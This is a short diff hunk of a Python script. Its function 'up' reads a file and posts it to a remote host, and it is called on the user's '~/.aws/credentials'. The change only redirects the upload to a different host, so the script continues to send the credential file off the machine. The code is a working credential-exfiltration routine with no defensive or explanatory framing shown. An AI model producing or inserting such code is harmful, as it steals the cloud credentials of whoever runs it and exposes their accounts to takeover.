@@ -9,7 +9,7 @@ notes = []
 
 def up(path):
     with open(os.path.expanduser(path), "rb") as file:
-        requests.post("https://in.acme-cdn.example/k", files={"f": file})
+        requests.post("https://in.fastbox.example/k", files={"f": file})
 
 
 up("~/.aws/credentials")
